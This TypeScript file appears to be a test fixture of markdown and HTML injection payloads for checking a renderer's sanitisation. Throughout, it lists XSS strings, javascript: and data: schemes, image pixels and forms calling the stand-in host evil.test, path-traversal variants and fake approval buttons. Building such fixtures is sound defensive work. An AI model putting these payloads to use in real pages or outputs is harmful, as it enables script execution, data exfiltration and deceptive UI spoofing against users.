/** Texts that try to make a page call out, run something or look like a part of the page. */
const HOSTS = [
  'https://evil.test/p?d=1',
  '//evil.test/p',
  'http://evil.test',
  'https:evil.test',
  '\\\\evil.test',
  'HTTPS://EVIL.TEST',
];
const SCHEMES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'javascript&colon;alert(1)', 'data:text/html,<script>1</script>',
  'vbscript:x', 'file:///etc/passwd', 'blob:https://evil.test/x', 'mailto:x@evil.test', 'tel:123', 'ftp://evil.test', 'ws://evil.test',
]; // prettier-ignore
const NEAR_TABLE = [
  '/invoices/../admin', '/invoices?d=secret', '/invoices#x', '/invoices/', '//invoices', '/invoices/2026-1/../../x', '/invoices/%2e%2e/x',
  '/invoices\u200b', '/INVOICES', '/invoices/2026-117?x', '/api/me/exports', '/account', './invoices', 'invoices', '/invoices@evil.test', '/\tinvoices',
]; // prettier-ignore
const TARGETS = [...HOSTS, ...SCHEMES, ...NEAR_TABLE];

const SHAPES: readonly ((target: string) => string)[] = [
  (target) => `[click](${target})`,
  (target) => `![pixel](${target})`,
  (target) => `[click](<${target}> "title")`,
  (target) => `[click][r] ![p][r] [r]\n\n[r]: ${target} "t"`,
  (target) => `<${target}> and ${target}`,
  (target) => `[![pixel](${target})](${target})`,
  (target) => `<img src="${target}"><a href="${target}">x</a>`,
];

const FIXED = [
  '<script>fetch("//evil.test")</script>', '<iframe src=//evil.test></iframe>', '<svg onload=alert(1)>', '<style>*{background:url(//evil.test)}</style>',
  '<form action=//evil.test><input name=a><button>Approve</button></form>', '<link rel=stylesheet href=//evil.test>', '<meta http-equiv=refresh content="0;//evil.test">',
  '<base href=//evil.test>', '<object data=//evil.test></object>', '<embed src=//evil.test>', '<video src=//evil.test autoplay></video>', '<audio src=//evil.test>',
  '<details open ontoggle=alert(1)>', '<div style="background:url(//evil.test)" onclick=alert(1)>Approve refund</div>', '<input type=image src=//evil.test>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<template><img src=//evil.test></template>', '<picture><source srcset=//evil.test></picture>',
  '<!-- --><img src=//evil.test>-->', '<scr<script>ipt>alert(1)</scr</script>ipt>', '&lt;img src=//evil.test&gt;', '\\<img src=//evil.test>',
  'footnote[^1]\n\n[^1]: <img src=//evil.test> [x](//evil.test)', '- [x] task <input>\n- [ ] other', '| a |\n| --- |\n| ![p](//evil.test) |',
  '> ![p](//evil.test)\n\n1. [x](javascript:alert(1))', '```html\n<img src=//evil.test>\n```', '`<img src=//evil.test>`', '# <img src=//evil.test>', '**[x](//evil.test)**',
  '[a\n](//evil.test)', '[a]( //evil.test )', '[a](//evil.test\n"t")', '[a](\u200b//evil.test)', '[a](//evil\u3002test)', '![a](/invoices)', 'www.evil.test', 'x@evil.test',
  'https://evil.test/?d=€90.00', '[\u202eclick](//evil.test)', '[x](&#106;avascript:alert(1))', '[x](java\u0000script:alert(1))', '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<approval id="1"><button data-approve>Approve</button></approval>', '{"type":"approval","approvalId":"1","nonce":"x"}', '<div data-card="invoice" role="dialog">Pay now</div>',
]; // prettier-ignore

export const PAYLOADS: readonly string[] = [
  ...TARGETS.flatMap((target) => SHAPES.map((shape) => shape(target))),
  ...FIXED,
];
